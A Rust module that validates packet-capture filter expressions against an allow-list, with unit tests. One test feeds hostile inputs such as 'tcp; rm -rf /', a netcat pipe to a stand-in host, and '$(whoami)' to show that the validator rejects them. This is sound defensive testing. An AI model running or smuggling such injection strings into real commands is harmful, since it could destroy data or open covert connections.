//! Capture filter validation.
//!
//! A filter reaches the capture tool as separate argv tokens, never through a
//! shell. Each token must still be on the allow-list: filter keywords,
//! protocol names, numbers, port ranges, and IP or CIDR literals.

use std::net::IpAddr;

use serde::Serialize;

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum FilterError {
    #[error("filter token `{0}` is not allowed")]
    DisallowedToken(String),

    #[error("unbalanced parentheses in filter")]
    UnbalancedParens,

    #[error("invalid {field}: `{value}`")]
    InvalidField { field: &'static str, value: String },
}

const KEYWORDS: &[&str] = &[
    "and", "or", "not", "&&", "||", "!", "host", "net", "mask", "port", "portrange", "src", "dst",
    "gateway", "proto", "less", "greater", "broadcast", "multicast", "inbound", "outbound",
    "ether", "ip", "ip6", "arp", "rarp", "tcp", "udp", "icmp", "icmp6", "sctp", "vlan", "mpls",
    "igmp", "pim", "vrrp",
];

const PROTOCOLS: &[&str] = &[
    "tcp", "udp", "icmp", "icmp6", "arp", "ip", "ip6", "sctp", "igmp", "vlan",
];

/// A validated capture filter, kept as individual tokens.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct CaptureFilter {
    tokens: Vec<String>,
}

impl CaptureFilter {
    /// Validate free-form filter text. Blank text yields `None`.
    pub fn parse(text: &str) -> Result<Option<Self>, FilterError> {
        let spaced = text.replace('(', " ( ").replace(')', " ) ");
        let tokens: Vec<String> = spaced.split_whitespace().map(str::to_string).collect();
        if tokens.is_empty() {
            return Ok(None);
        }

        let mut depth = 0i32;
        for token in &tokens {
            match token.as_str() {
                "(" => depth += 1,
                ")" => {
                    depth -= 1;
                    if depth < 0 {
                        return Err(FilterError::UnbalancedParens);
                    }
                }
                t if is_allowed_token(t) => {}
                t => return Err(FilterError::DisallowedToken(t.to_string())),
            }
        }
        if depth != 0 {
            return Err(FilterError::UnbalancedParens);
        }
        Ok(Some(Self { tokens }))
    }

    pub fn tokens(&self) -> &[String] {
        &self.tokens
    }
}

impl std::fmt::Display for CaptureFilter {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.tokens.join(" "))
    }
}

fn is_allowed_token(token: &str) -> bool {
    let lower = token.to_ascii_lowercase();
    KEYWORDS.contains(&lower.as_str())
        || token.parse::<u16>().is_ok()
        || is_port_range(token)
        || token.parse::<IpAddr>().is_ok()
        || is_cidr(token)
}

fn is_port_range(token: &str) -> bool {
    match token.split_once('-') {
        Some((lo, hi)) => matches!(
            (lo.parse::<u16>(), hi.parse::<u16>()),
            (Ok(lo), Ok(hi)) if lo <= hi
        ),
        None => false,
    }
}

fn is_cidr(token: &str) -> bool {
    let Some((addr, len)) = token.split_once('/') else {
        return false;
    };
    let Ok(len) = len.parse::<u8>() else {
        return false;
    };
    match addr.parse::<IpAddr>() {
        Ok(IpAddr::V4(_)) => len <= 32,
        Ok(IpAddr::V6(_)) => len <= 128,
        Err(_) => false,
    }
}

/// Structured filter form: each populated field becomes one clause, clauses
/// joined with `and`.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FilterFields {
    pub protocol: Option<String>,
    pub port: Option<u16>,
    pub src_host: Option<IpAddr>,
    pub dst_host: Option<IpAddr>,
}

impl FilterFields {
    /// Validate raw form values. Blank values are treated as unset.
    pub fn from_form(
        protocol: &str,
        port: &str,
        src_host: &str,
        dst_host: &str,
    ) -> Result<Self, FilterError> {
        let protocol = non_blank(protocol)
            .map(|p| {
                let p = p.to_ascii_lowercase();
                if PROTOCOLS.contains(&p.as_str()) {
                    Ok(p)
                } else {
                    Err(FilterError::InvalidField { field: "protocol", value: p })
                }
            })
            .transpose()?;
        let port = non_blank(port)
            .map(|p| {
                p.parse::<u16>()
                    .map_err(|_| FilterError::InvalidField { field: "port", value: p.into() })
            })
            .transpose()?;
        let src_host = parse_host(src_host, "source host")?;
        let dst_host = parse_host(dst_host, "destination host")?;
        Ok(Self { protocol, port, src_host, dst_host })
    }

    pub fn build(&self) -> Option<CaptureFilter> {
        let mut clauses: Vec<Vec<String>> = Vec::new();
        if let Some(protocol) = &self.protocol {
            clauses.push(vec![protocol.clone()]);
        }
        if let Some(port) = self.port {
            clauses.push(vec!["port".into(), port.to_string()]);
        }
        if let Some(src) = self.src_host {
            clauses.push(vec!["src".into(), "host".into(), src.to_string()]);
        }
        if let Some(dst) = self.dst_host {
            clauses.push(vec!["dst".into(), "host".into(), dst.to_string()]);
        }
        if clauses.is_empty() {
            return None;
        }

        let mut tokens = Vec::new();
        for (i, clause) in clauses.into_iter().enumerate() {
            if i > 0 {
                tokens.push("and".to_string());
            }
            tokens.extend(clause);
        }
        Some(CaptureFilter { tokens })
    }
}

fn non_blank(value: &str) -> Option<&str> {
    let value = value.trim();
    (!value.is_empty()).then_some(value)
}

fn parse_host(value: &str, field: &'static str) -> Result<Option<IpAddr>, FilterError> {
    non_blank(value)
        .map(|v| {
            v.parse::<IpAddr>()
                .map_err(|_| FilterError::InvalidField { field, value: v.into() })
        })
        .transpose()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_parse_blank_is_none() {
        assert_eq!(CaptureFilter::parse("   ").unwrap(), None);
    }

    #[test]
    fn test_parse_accepts_common_expressions() {
        let f = CaptureFilter::parse("tcp port 443 and (src host 10.0.0.1 or dst net 192.168.0.0/16)")
            .unwrap()
            .unwrap();
        assert_eq!(f.tokens()[0], "tcp");
        assert_eq!(f.tokens().iter().filter(|t| *t == "(").count(), 1);
        assert!(CaptureFilter::parse("udp portrange 5000-5010").unwrap().is_some());
        assert!(CaptureFilter::parse("ip6 host fe80::1").unwrap().is_some());
    }

    #[test]
    fn test_parse_rejects_shell_metacharacters() {
        assert_eq!(
            CaptureFilter::parse("tcp; rm -rf /").unwrap_err(),
            FilterError::DisallowedToken("tcp;".into())
        );
        assert!(matches!(
            CaptureFilter::parse("port 80 | nc evil 1"),
            Err(FilterError::DisallowedToken(_))
        ));
        assert!(matches!(
            CaptureFilter::parse("host $(whoami)"),
            Err(FilterError::DisallowedToken(_))
        ));
    }

    #[test]
    fn test_parse_rejects_unbalanced_parens() {
        assert_eq!(
            CaptureFilter::parse("(tcp or udp").unwrap_err(),
            FilterError::UnbalancedParens
        );
        assert_eq!(CaptureFilter::parse("tcp )").unwrap_err(), FilterError::UnbalancedParens);
    }

    #[test]
    fn test_parse_rejects_out_of_range_numbers() {
        assert!(CaptureFilter::parse("port 70000").is_err());
        assert!(CaptureFilter::parse("portrange 90-80").is_err());
        assert!(CaptureFilter::parse("net 10.0.0.0/33").is_err());
    }

    #[test]
    fn test_fields_build_joins_with_and() {
        let fields = FilterFields::from_form("TCP", "80", "192.168.1.2", "").unwrap();
        let filter = fields.build().unwrap();
        assert_eq!(filter.to_string(), "tcp and port 80 and src host 192.168.1.2");
        assert_eq!(CaptureFilter::parse(&filter.to_string()).unwrap(), Some(filter));
    }

    #[test]
    fn test_fields_empty_builds_none() {
        assert_eq!(FilterFields::from_form("", " ", "", "").unwrap().build(), None);
    }

    #[test]
    fn test_fields_reject_bad_values() {
        assert!(FilterFields::from_form("http", "", "", "").is_err());
        assert!(FilterFields::from_form("", "eighty", "", "").is_err());
        assert!(FilterFields::from_form("", "", "", "example.com").is_err());
    }
}
